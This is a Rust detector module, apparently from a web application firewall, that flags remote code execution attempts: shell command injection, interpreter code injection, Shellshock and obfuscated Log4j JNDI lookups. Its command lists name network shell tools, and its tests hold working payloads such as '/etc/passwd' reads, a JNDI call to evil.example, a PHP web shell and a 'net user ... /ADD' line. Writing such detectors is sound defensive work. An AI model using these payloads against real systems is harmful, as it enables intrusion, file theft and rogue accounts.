//! Remote code execution: OS command injection read with a small shell grammar (a command
//! position after a separator or inside a substitution, the command word unquoted and unescaped
//! as the shell would, then looked up among system commands), code injection into interpreters
//! (PHP, Python, Node.js, Java), Shellshock, and Log4j JNDI lookups with nested lookups resolved.

use std::sync::LazyLock;

use regex::Regex;

use crate::features::{
    Features, AMPERSAND, ANGLE, BACKTICK, BRACE, DASH, DOLLAR, NEWLINE, PAREN, PIPE, QUESTION,
    QUOTE, SEMICOLON, SLASH, STAR,
};
use crate::finding::AttackKind;
use crate::scan::{Hit, Origin, Subject};

/// Commands that are not ordinary words: seeing one in a command position is enough.
const STRONG_COMMANDS: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "nslookup",
    "telnet",
    "nmap",
    "chmod",
    "chown",
    "chgrp",
    "useradd",
    "usermod",
    "sudo",
    "crontab",
    "systeminfo",
    "tasklist",
    "taskkill",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "wmic",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "traceroute",
    "tracert",
    "hostname",
    "pwd",
    "ls",
    "base64",
    "xxd",
    "mkfifo",
    "mknod",
    "busybox",
    "nohup",
    "awk",
    "gawk",
    "sed",
    "egrep",
    "xargs",
    "lsb_release",
    "getent",
    "printenv",
    "killall",
    "pkill",
    "iptables",
    "tftp",
    "scp",
    "rmdir",
    "mkdir",
    "uptime",
    "ifup",
    "arp",
    "dig",
    "host",
    "nproc",
    "lscpu",
    "lsof",
    "ulimit",
    "fgrep",
    "grep",
    "printf",
    "sysctl",
    "openssl",
    "gcc",
    "cc",
    "make",
    "apt",
    "yum",
    "pip",
    "npm",
    "java",
    "jrunscript",
    "net1",
    "netsh",
    "vssadmin",
    "schtasks",
    "icacls",
    "findstr",
    "attrib",
    "cacls",
    "whoami",
];

/// Commands that are also English or everyday words: they count only with an argument shaped
/// like a shell argument (an option, a path, a number, a variable) or at the very end.
const WEAK_COMMANDS: &[&str] = &[
    "id",
    "cat",
    "head",
    "tail",
    "more",
    "less",
    "sort",
    "find",
    "kill",
    "time",
    "date",
    "echo",
    "sleep",
    "ping",
    "touch",
    "rm",
    "cp",
    "mv",
    "dd",
    "od",
    "tr",
    "cut",
    "tee",
    "who",
    "w",
    "last",
    "which",
    "whereis",
    "env",
    "set",
    "export",
    "type",
    "dir",
    "copy",
    "del",
    "ver",
    "start",
    "ps",
    "ip",
    "su",
    "ssh",
    "ftp",
    "passwd",
    "reboot",
    "shutdown",
    "halt",
    "file",
    "strings",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "eval",
    "exec",
    "source",
    "expr",
    "history",
    "groups",
    "systemctl",
    "service",
    "sc",
    "reg",
    "timeout",
    "wait",
    "stat",
    "locate",
    "whois",
    "finger",
    "users",
    "route",
    "mount",
    "df",
    "du",
    "free",
    "top",
    "nl",
    "rev",
    "fold",
    "net",
];

/// Windows administration commands are everyday words; with one of their sub-commands after
/// them they are unmistakable (`net user`, `reg add`, `sc query`).
const SUB_COMMANDS: &[(&str, &[&str])] = &[
    (
        "net",
        &[
            "user",
            "users",
            "localgroup",
            "group",
            "view",
            "share",
            "use",
            "start",
            "stop",
            "accounts",
            "session",
        ],
    ),
    (
        "reg",
        &["add", "query", "delete", "save", "export", "import", "load"],
    ),
    (
        "sc",
        &["query", "create", "config", "start", "stop", "delete", "qc"],
    ),
];

fn has_sub_command(command: &str, text: &str, after_word: usize) -> bool {
    let Some((_, subs)) = SUB_COMMANDS.iter().find(|(name, _)| *name == command) else {
        return false;
    };
    let next = text[after_word..]
        .trim_start_matches([' ', '\t'])
        .split(|character: char| !character.is_ascii_alphanumeric())
        .next()
        .unwrap_or("");
    subs.iter().any(|sub| next.eq_ignore_ascii_case(sub))
}

static SHELLSHOCK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:^|['"=\s])\(\s*\)\s*\{[^}]{0,40}\}\s*;"#).expect("static rce rule compiles")
});

static IFS_OR_BRACE_EXPANSION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\$\{IFS[^}]*\}|\$IFS\b|\{[a-zA-Z/._-]{1,20},[^}\s]*\}|/\?{2,}/|/(?:b[?*]n|u[?*]r)/",
    )
    .expect("static rce rule compiles")
});

static CODE_INJECTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)<\?(?:php|=)|\b(?:phpinfo|system|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|str_rot13|file_put_contents|fwrite|eval|exec|preg_replace)\s*\(\s*(?:['"`$]|\)|base64_decode|gzinflate|str_rot13|chr\s*\(|_(?:GET|POST|REQUEST)|\w+\s*\()|\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\s*\[|\{\s*\$\{\s*\w+\s*\(|__import__\s*\(|\bos\.(?:system|popen|exec[lv]p?e?|spawn\w*)\s*\(|\bsubprocess\.(?:call|run|popen|check_output|check_call|getoutput)\s*\(|\brequire\s*\(\s*['"]child_process['"]|\bchild_process\b|\bprocess\.mainmodule\b|\bglobal\.process\b|\bruntime\.getruntime\s*\(\s*\)\s*\.\s*exec|\bjava\.lang\.(?:runtime|processbuilder)\b|\bnew\s+processbuilder\s*\(|\bscriptenginemanager\b|\bio\.popen\s*\(|\bkernel\.(?:system|exec|spawn)\b"#,
    )
    .expect("static rce rule compiles")
});

/// Both command lists, sorted for binary search: this lookup runs after every separator.
static COMMANDS: LazyLock<Vec<(&'static str, bool)>> = LazyLock::new(|| {
    let mut commands: Vec<(&'static str, bool)> = STRONG_COMMANDS
        .iter()
        .map(|command| (*command, true))
        .chain(WEAK_COMMANDS.iter().map(|command| (*command, false)))
        .collect();
    commands.sort_unstable();
    commands.dedup_by(|later, earlier| later.0 == earlier.0);
    commands
});

/// `Some(true)` for a strong command, `Some(false)` for a weak one, `None` for other words.
fn is_command(word: &str) -> Option<bool> {
    if word.is_empty() || word.len() > 16 {
        return None;
    }
    COMMANDS
        .binary_search_by(|(command, _)| (*command).cmp(word))
        .ok()
        .map(|index| COMMANDS[index].1)
}

/// Skips blanks and the shell's tricks for writing one (`${IFS}`, `$IFS$9`) from `at`.
fn skip_blanks(text: &str, mut at: usize) -> usize {
    let bytes = text.as_bytes();
    loop {
        while at < bytes.len() && matches!(bytes[at], b' ' | b'\t' | b'\r' | b'\n' | b'{' | b'(') {
            at += 1;
        }
        let rest = &text[at..];
        if let Some(after) = rest.strip_prefix("${IFS}") {
            at = text.len() - after.len();
            continue;
        }
        if let Some(after) = rest.strip_prefix("$IFS") {
            at = text.len() - after.len();
            if text[at..].starts_with('$')
                && text[at + 1..].starts_with(|c: char| c.is_ascii_digit())
            {
                at += 2;
            }
            continue;
        }
        return at;
    }
}

/// A command word as the shell would see it, kept on the stack: this runs after every separator
/// of every value that has one.
struct Word {
    bytes: [u8; 64],
    length: usize,
}

impl Word {
    fn push(&mut self, byte: u8) {
        if self.length < self.bytes.len() {
            self.bytes[self.length] = byte;
            self.length += 1;
        }
    }

    fn full(&self) -> &str {
        std::str::from_utf8(&self.bytes[..self.length]).unwrap_or("")
    }

    /// The word without its directory and a `.exe` suffix.
    fn base(&self) -> &str {
        let full = self.full();
        let base = full.rsplit('/').next().unwrap_or(full);
        base.strip_suffix(".exe").unwrap_or(base)
    }

    fn is_empty(&self) -> bool {
        self.length == 0
    }
}

/// The command word at `at` (quotes, backslashes and empty expansions removed, lowercased),
/// whether it was disguised, and where it ends.
fn command_word(text: &str, at: usize) -> (Word, bool, usize) {
    let bytes = text.as_bytes();
    let mut word = Word {
        bytes: [0; 64],
        length: 0,
    };
    let mut disguised = false;
    let mut index = at;
    while index < bytes.len() {
        let byte = bytes[index];
        match byte {
            b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')'
            | b'{' | b'}' | b',' => break,
            // `\n`, `\r`, `\t` written out: many applications unescape them into the real thing.
            b'\\' if matches!(bytes.get(index + 1), Some(b'n' | b'r' | b't')) => break,
            b'\'' | b'"' | b'\\' => {
                disguised = true;
                index += 1;
            }
            b'$' if text[index..].starts_with("$@") || text[index..].starts_with("$*") => {
                disguised = true;
                index += 2;
            }
            b'`' => break,
            _ => {
                word.push(byte.to_ascii_lowercase());
                index += 1;
            }
        }
        if word.length == word.bytes.len() {
            break;
        }
    }
    (word, disguised, index)
}

/// True when what follows a weak command looks like a shell argument, or nothing follows.
fn has_shell_argument(text: &str, after_word: usize) -> bool {
    let rest = text[after_word..].trim_start_matches([' ', '\t']);
    let bytes = rest.as_bytes();
    // A Windows drive path (`C:\`, `c:/`).
    if bytes.len() >= 3
        && bytes[0].is_ascii_alphabetic()
        && bytes[1] == b':'
        && matches!(bytes[2], b'\\' | b'/')
    {
        return true;
    }
    match rest.bytes().next() {
        None => true,
        Some(first) => matches!(
            first,
            b'-' | b'/'
                | b'.'
                | b'~'
                | b'$'
                | b'\''
                | b'"'
                | b'\\'
                | b'`'
                | b';'
                | b'|'
                | b'&'
                | b'>'
                | b'<'
                | b'\n'
                | b'\r'
                | b'0'..=b'9'
        ),
    }
}

/// Byte offsets where the shell would start reading a command: after `;`, `|`, `||`, `&`,
/// `&&`, a newline, `$(` and an opening backtick.
fn command_positions(text: &str) -> impl Iterator<Item = (usize, u8)> + '_ {
    let bytes = text.as_bytes();
    let mut backticks = 0usize;
    bytes.iter().enumerate().filter_map(move |(index, byte)| {
        let position = index + 1;
        match byte {
            b';' | b'|' | b'&' | b'\n' | b'\r' => Some((position, *byte)),
            b'n' | b'r' if index > 0 && bytes[index - 1] == b'\\' => Some((position, b'\n')),
            b'(' if index > 0 && bytes[index - 1] == b'$' => Some((position, b'$')),
            b'`' => {
                backticks += 1;
                (backticks % 2 == 1).then_some((position, b'`'))
            }
            _ => None,
        }
    })
}

/// Directories of system binaries: a value that starts by running one is a command.
const BINARY_DIRECTORIES: &[&str] = &[
    "/bin/",
    "/sbin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
];

/// A value that is itself a command line: a binary by its full path, or a network or shell tool
/// with an option, path or URL argument (`curl http://...`, `nc -e`).
fn command_at_start(text: &str) -> Option<Hit> {
    let start = text.len() - text.trim_start().len();
    let rest = &text[start..];
    if BINARY_DIRECTORIES
        .iter()
        .any(|directory| rest.starts_with(directory))
    {
        let (word, _, end) = command_word(text, start);
        if is_command(word.base()).is_some() {
            return Some(Hit::new(AttackKind::Rce, "rce.shell-command", start, end));
        }
    }
    let (word, _, end) = command_word(text, start);
    if is_command(word.base()) != Some(true) || end >= text.len() || text.as_bytes()[end] != b' ' {
        return None;
    }
    let argument = text[end..].trim_start();
    let shell_shaped =
        argument.starts_with('-') || argument.starts_with('/') || argument.contains("://");
    shell_shaped.then(|| Hit::new(AttackKind::Rce, "rce.shell-command", start, end))
}

fn shell_command(text: &str) -> Option<Hit> {
    for (position, separator) in command_positions(text) {
        let start = skip_blanks(text, position);
        if start >= text.len() {
            continue;
        }
        let (word, disguised, end) = command_word(text, start);
        if word.is_empty() {
            continue;
        }
        let substitution = matches!(separator, b'$' | b'`');
        let wildcard_path = word.full().contains(['?', '*']) && text[start..end].contains('/');
        if wildcard_path {
            return Some(Hit::new(
                AttackKind::Rce,
                "rce.shell-obfuscation",
                start,
                end,
            ));
        }
        let Some(strong) = is_command(word.base()) else {
            continue;
        };
        // A lone `&` between words is prose ("Tom & Jerry"); weak commands after it need more.
        let prose_ampersand = separator == b'&'
            && text.as_bytes().get(position) == Some(&b' ')
            && position >= 2
            && text.as_bytes()[position - 2] == b' ';
        let counts = strong
            || (!prose_ampersand && has_shell_argument(text, end))
            || substitution
            || has_sub_command(word.base(), text, end);
        if !counts {
            continue;
        }
        let rule = if substitution {
            "rce.shell-substitution"
        } else if disguised {
            "rce.shell-obfuscation"
        } else {
            "rce.shell-command"
        };
        return Some(Hit::new(
            AttackKind::Rce,
            rule,
            position.saturating_sub(1),
            end,
        ));
    }
    None
}

/// Resolves Log4j's nested lookups innermost first (`${lower:j}` → `j`, `${::-n}` → `n`,
/// `${env:X:-d}` → `d`) and reports where a `jndi:` lookup appears.
fn log4j_lookup(text: &str) -> Option<Hit> {
    let start = text.find("${")?;
    let mut current = text[start..].to_string();
    for _ in 0..64 {
        let Some(open) = innermost_lookup(&current) else {
            break;
        };
        let close = match current[open + 2..].find('}') {
            Some(offset) => open + 2 + offset,
            None => break,
        };
        let content = &current[open + 2..close];
        let lowered = content.to_ascii_lowercase();
        if lowered.trim_start().starts_with("jndi:") {
            return Some(Hit::new(
                AttackKind::Rce,
                "rce.log4j-jndi",
                start,
                text.len(),
            ));
        }
        let value = lookup_value(content);
        current.replace_range(open..=close, &value);
    }
    let lowered = current.to_ascii_lowercase();
    lowered
        .contains("jndi:")
        .then(|| Hit::new(AttackKind::Rce, "rce.log4j-jndi", start, text.len()))
}

/// The last `${` before the first `}`: a lookup with no lookup inside it.
fn innermost_lookup(text: &str) -> Option<usize> {
    let first_close = text.find('}')?;
    text[..first_close].rfind("${")
}

fn lookup_value(content: &str) -> String {
    if let Some((_, default)) = content.split_once(":-") {
        return default.to_string();
    }
    let Some((prefix, argument)) = content.split_once(':') else {
        return String::new();
    };
    match prefix.trim().to_ascii_lowercase().as_str() {
        "lower" | "upper" | "date" | "main" | "sys" | "env" | "ctx" | "map" | "sd" | "web"
        | "docker" | "k8s" | "spring" | "bundle" | "log4j" | "java" | "marker" => {
            argument.trim_matches('\'').to_string()
        }
        _ => String::new(),
    }
}

const SHELL_SIGNS: u32 =
    SEMICOLON | PIPE | AMPERSAND | NEWLINE | BACKTICK | DOLLAR | BRACE | QUESTION | STAR;

pub(crate) fn detect(subject: &Subject<'_>) -> Option<Hit> {
    let text = subject.text;
    let features: Features = subject.features;
    if text.len() < 2 {
        return None;
    }
    if features.has(DOLLAR) && features.has(BRACE) {
        if let Some(hit) = log4j_lookup(text) {
            return Some(hit);
        }
    }
    if features.has(PAREN) && features.has(BRACE) {
        if let Some(found) = SHELLSHOCK.find(text) {
            return Some(Hit::new(
                AttackKind::Rce,
                "rce.shellshock",
                found.start(),
                found.end(),
            ));
        }
    }
    if features.has(SLASH | DASH) && subject.origin != Origin::Header {
        if let Some(hit) = command_at_start(text) {
            return Some(hit);
        }
    }
    if features.has(SHELL_SIGNS) || text.contains('\\') {
        if let Some(hit) = shell_command(text) {
            return Some(hit);
        }
        if features.has(DOLLAR | BRACE | QUESTION | STAR) {
            if let Some(found) = IFS_OR_BRACE_EXPANSION.find(text) {
                return Some(Hit::new(
                    AttackKind::Rce,
                    "rce.shell-obfuscation",
                    found.start(),
                    found.end(),
                ));
            }
        }
    }
    let code_signs = if subject.origin == Origin::Header {
        features.has(PAREN) && features.has(QUOTE | DOLLAR)
    } else {
        features.has(PAREN | DOLLAR | ANGLE)
    };
    if code_signs {
        if let Some(found) = CODE_INJECTION.find(text) {
            return Some(Hit::new(
                AttackKind::Rce,
                "rce.code-injection",
                found.start(),
                found.end(),
            ));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::check;

    #[test]
    fn command_injection_is_found() {
        check(
            detect,
            &[
                ";id",
                "a|id|",
                "127.0.0.1 && whoami",
                "x; cat /etc/passwd",
                "%0Aid",
                "$(sleep 5)",
                "`uname -a`",
                "1;c'a't${IFS}/etc/passwd",
                ";{cat,/etc/passwd}",
                "|/usr/bin/id",
                "; /???/??t /etc/passwd",
                "|| ping -c 10 127.0.0.1",
                "() { :;}; /bin/bash -c \"id\"",
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:${lower:l}dap://x}",
                "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
                "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
                "<?php system($_GET['c']); ?>",
                "__import__('os').system('id')",
                "require('child_process').exec('id')",
                "{${phpinfo()}}",
                "Runtime.getRuntime().exec(\"id\")",
                "Y2F0IC9ldGMvcGFzc3dk; ls -la",
                "| net user hacker Password1 /ADD",
                "& reg add HKLM\\System /v x",
                "; netsh firewall set opmode disable",
            ],
            &[
                "Tom & Jerry",
                "salt & pepper; cat food",
                "cats; dogs",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
                "$(document).ready(function() { init(); })",
                "price: $100 | discount: 10%",
                "rock & roll",
                "see you at 5; date night",
                "Q&A session",
                "{\"price\": \"$5\"}",
                "What's the time? Who knows",
                "${user.name} placeholder",
                "profit; net income rose",
            ],
        );
    }
}
